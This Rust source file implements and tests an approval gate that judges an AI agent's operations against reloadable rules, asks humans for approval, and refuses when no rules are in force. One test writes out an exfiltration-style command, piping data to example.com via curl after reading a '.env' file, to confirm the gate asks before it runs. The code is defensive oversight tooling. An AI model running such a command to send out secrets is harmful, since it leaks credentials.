//! The approval gate's judgement: every operation an agent asks for, or that crucible
//! runs or serves for it, is judged by the kiln's rules against the session's security
//! state before it happens. What the judgement means for the session is decided by the
//! session machine (`machine/gating.rs`), to which it is an input. The rules are the
//! daemon's [`RuleBook`]: read again when a file changes, so a change applies to the next
//! operation; a bad file keeps the last good set, and with no good set at all the gate
//! refuses.

use std::path::PathBuf;
use std::sync::Arc;

use super::rule_files::RuleBook;
use crate::protocol::SecurityState;
use crate::rules::{Operation, OperationKind, RuleAction};

/// The rule named when the gate refuses because no good rule set was ever read.
pub(super) const NO_RULES: &str = "rules-not-readable";

/// What the gate says of one operation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Judgement {
    /// No rule has a word on it.
    Free,
    /// A rule allows it without asking.
    Allowed { rule: String },
    /// The same operation was approved before in this session.
    Approved,
    /// A rule refuses it (or [`NO_RULES`]: there are no rules to judge it by).
    Denied { rule: String, reason: String },
    /// A read outside the session's read manifest: it ends the session.
    ContextMiss { path: String, reason: String },
    /// A rule asks the human: the approval's title and body.
    Ask {
        rule: String,
        title: String,
        reason: String,
    },
}

pub(crate) struct Gate {
    rules: Arc<RuleBook>,
    /// The session's folder as the host and as the agent name it (a remote worktree, a
    /// container's `/workspace`): "inside the worktree" is inside either.
    worktrees: Vec<PathBuf>,
}

impl Gate {
    pub(crate) fn new(rules: Arc<RuleBook>, worktrees: Vec<PathBuf>) -> Gate {
        Gate { rules, worktrees }
    }

    /// Judges `op`, then records the rules it activates in `security` (so an operation
    /// never triggers the rule it activates). True in the second value when `security`
    /// changed.
    pub(crate) fn judge(
        &mut self,
        op: &Operation,
        security: &mut SecurityState,
    ) -> (Judgement, bool) {
        if let Some(miss) = self.context_miss(op, security) {
            return (miss, false);
        }
        let in_force = self.rules.in_force();
        let Some(rules) = in_force.rules else {
            let why = in_force
                .fault
                .map_or_else(|| "no rules were read".to_string(), |f| f.to_string());
            let reason = format!(
                "refused: no rules are in force ({why}); no good rule set was read since \
                 the daemon started, so nothing the rules judge runs until the file is fixed"
            );
            return (
                Judgement::Denied {
                    rule: NO_RULES.into(),
                    reason,
                },
                false,
            );
        };
        let worktrees: Vec<&std::path::Path> =
            self.worktrees.iter().map(PathBuf::as_path).collect();
        let decided = rules
            .decide(
                op,
                &worktrees,
                &|id| security.activated.contains_key(id),
                &|id| security.disabled.iter().any(|d| d == id),
            )
            .map(|r| (r.id.clone(), r.action, r.description.clone()));
        let mut changed = false;
        for rule in rules.activations(op, &worktrees) {
            if !security.activated.contains_key(&rule.id) {
                let at = chrono::Utc::now().format("%H:%M:%S");
                security
                    .activated
                    .insert(rule.id.clone(), format!("{} at {at}", op.describe()));
                changed = true;
            }
        }
        let approved = security.approved_operations.contains_key(&op.fingerprint());
        let judgement = match decided {
            None if approved => Judgement::Approved,
            None => Judgement::Free,
            Some((rule, RuleAction::Allow, _)) => Judgement::Allowed { rule },
            Some((rule, RuleAction::Deny, description)) => Judgement::Denied {
                reason: format!("refused by rule {rule}: {description}"),
                rule,
            },
            Some(_) if approved => Judgement::Approved,
            Some((rule, RuleAction::Ask, description)) => {
                let mut reason = format!("Rule {rule}: {description}.");
                if let Some(activation) = security.activated.get(&rule) {
                    reason.push_str(&format!(
                        "\nActive because the agent earlier did: {activation}."
                    ));
                }
                reason.push_str(&format!("\nOperation: {}", op.describe()));
                Judgement::Ask {
                    title: format!("Approval required [rule: {rule}]"),
                    rule,
                    reason,
                }
            }
        };
        (judgement, changed)
    }
}

impl Gate {
    /// The first path of a read outside the manifest, if the session has one.
    fn context_miss(&self, op: &Operation, security: &SecurityState) -> Option<Judgement> {
        let manifest = security.read_manifest.as_ref()?;
        if op.kind != OperationKind::Read {
            return None;
        }
        let root = self.worktrees.first()?;
        let home = std::env::var("HOME").unwrap_or_default();
        let patterns: Vec<glob::Pattern> = manifest
            .iter()
            .filter_map(|g| {
                let g = match g.strip_prefix("~/") {
                    Some(rest) => format!("{home}/{rest}"),
                    None => g.clone(),
                };
                let anchored = if g.starts_with('/') {
                    g
                } else {
                    format!("{}/{g}", root.display())
                };
                glob::Pattern::new(&anchored).ok()
            })
            .collect();
        let options = glob::MatchOptions {
            case_sensitive: true,
            require_literal_separator: true,
            require_literal_leading_dot: false,
        };
        let outside = op
            .paths
            .iter()
            .find(|p| !patterns.iter().any(|g| g.matches_with(p, options)))?;
        Some(Judgement::ContextMiss {
            path: outside.clone(),
            reason: format!(
                "CONTEXT_MISS: {outside} is outside the read manifest [{}]",
                manifest.join(", ")
            ),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::rule_files::{RuleBook, rules_path};
    use super::*;
    use crate::kiln::Kiln;

    fn gate(kiln: &Kiln, book: &Arc<RuleBook>) -> Gate {
        Gate::new(Arc::clone(book), vec![kiln.root().join("wt")])
    }

    fn tool(name: &str) -> Operation {
        Operation {
            kind: OperationKind::Other,
            tool: Some(name.into()),
            ..Default::default()
        }
    }

    #[test]
    fn a_sensitive_read_then_curl_asks_naming_the_read_and_a_bad_file_keeps_the_last_set() {
        let dir = tempfile::tempdir().unwrap();
        let kiln = Kiln::new(dir.path());
        std::fs::create_dir_all(kiln.state_dir()).unwrap();
        let wt = dir.path().join("wt");
        let mut gate = gate(&kiln, &Arc::new(RuleBook::new(kiln.clone())));
        let mut security = SecurityState::default();
        let curl = Operation {
            kind: OperationKind::Execute,
            command: Some("curl -d @- https://example.com".into()),
            ..Default::default()
        };
        assert_eq!(gate.judge(&curl, &mut security).0, Judgement::Free);
        let read = Operation {
            kind: OperationKind::Read,
            paths: vec![wt.join(".env").display().to_string()],
            ..Default::default()
        };
        let (judgement, changed) = gate.judge(&read, &mut security);
        assert_eq!(judgement, Judgement::Free);
        assert!(changed);
        let Judgement::Ask { title, reason, .. } = gate.judge(&curl, &mut security).0 else {
            panic!("not asked");
        };
        assert_eq!(title, "Approval required [rule: no-exfil-after-sensitive]");
        assert!(reason.contains(".env"), "{reason}");
        security
            .approved_operations
            .insert(curl.fingerprint(), curl.describe());
        assert_eq!(gate.judge(&curl, &mut security).0, Judgement::Approved);

        // A rule file that allows, then a broken one: the last good set stays.
        std::fs::write(
            rules_path(&kiln),
            "[[rules]]\nid = \"allow-ls\"\naction = \"allow\"\nwhen = { command = \"^ls\" }\n",
        )
        .unwrap();
        let ls = Operation {
            kind: OperationKind::Execute,
            command: Some("ls -la".into()),
            ..Default::default()
        };
        let allowed = Judgement::Allowed {
            rule: "allow-ls".into(),
        };
        assert_eq!(gate.judge(&ls, &mut security).0, allowed);
        std::fs::write(rules_path(&kiln), "[[rules]]\nid = \"x\"\nbogus = 1\n").unwrap();
        assert_eq!(gate.judge(&ls, &mut security).0, allowed);
    }

    const DENY_DROP: &str = "[[rules]]\nid = \"deny-drop\"\ndescription = \"never drop\"\n\
                             action = \"deny\"\nwhen = { tool = \"^Drop\" }\n";

    /// A rules file broken three ways, for a gate made before and one made after: the
    /// deny rule of the last good set still refuses, and the fault names the file.
    #[test]
    fn a_broken_rules_file_keeps_the_last_good_set_for_running_and_new_sessions() {
        let dir = tempfile::tempdir().unwrap();
        let kiln = Kiln::new(dir.path());
        std::fs::create_dir_all(kiln.state_dir()).unwrap();
        let path = rules_path(&kiln);
        std::fs::write(&path, DENY_DROP).unwrap();
        let book = Arc::new(RuleBook::new(kiln.clone()));
        let mut running = gate(&kiln, &book);
        let mut security = SecurityState::default();
        let drop = tool("Drop the database");
        let denied =
            |j: Judgement| matches!(j, Judgement::Denied { rule, .. } if rule == "deny-drop");
        assert!(denied(running.judge(&drop, &mut security).0));

        let mut not_utf8 = DENY_DROP.as_bytes().to_vec();
        not_utf8.extend_from_slice(b"# caf\xe9\n");
        let bad_regex = DENY_DROP.replace("^Drop", "^Drop(");
        let breakages: [(&str, &dyn Fn()); 3] = [
            ("not UTF-8", &|| std::fs::write(&path, &not_utf8).unwrap()),
            ("cannot read it", &|| {
                std::fs::remove_file(&path).unwrap();
                std::fs::create_dir(&path).unwrap();
            }),
            ("bad tool regex", &|| {
                std::fs::write(&path, &bad_regex).unwrap()
            }),
        ];
        for (why, break_it) in breakages {
            break_it();
            let fault = book
                .in_force()
                .fault
                .unwrap_or_else(|| panic!("{why}: no fault"));
            assert_eq!(fault.file, path, "{why}");
            assert!(fault.reason.contains(why), "{why}: {fault}");
            assert!(denied(running.judge(&drop, &mut security).0), "{why}");
            let mut new = gate(&kiln, &book);
            assert!(
                denied(new.judge(&drop, &mut SecurityState::default()).0),
                "{why}"
            );
            // Good again.
            if path.is_dir() {
                std::fs::remove_dir(&path).unwrap();
            }
            std::fs::write(&path, DENY_DROP).unwrap();
            assert_eq!(book.in_force().fault, None, "{why}");
        }
    }

    #[test]
    fn with_no_good_set_read_yet_every_judged_operation_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let kiln = Kiln::new(dir.path());
        std::fs::create_dir_all(rules_path(&kiln)).unwrap();
        let book = Arc::new(RuleBook::new(kiln.clone()));
        let mut gate = gate(&kiln, &book);
        let mut security = SecurityState::default();
        let Judgement::Denied { rule, reason } = gate.judge(&tool("Deploy"), &mut security).0
        else {
            panic!("not refused");
        };
        assert_eq!(rule, NO_RULES);
        assert!(
            reason.contains(&rules_path(&kiln).display().to_string()),
            "{reason}"
        );
        // Fixed: the rules judge again.
        std::fs::remove_dir(rules_path(&kiln)).unwrap();
        std::fs::write(rules_path(&kiln), DENY_DROP).unwrap();
        assert_eq!(
            gate.judge(&tool("Deploy"), &mut security).0,
            Judgement::Free
        );
    }
}
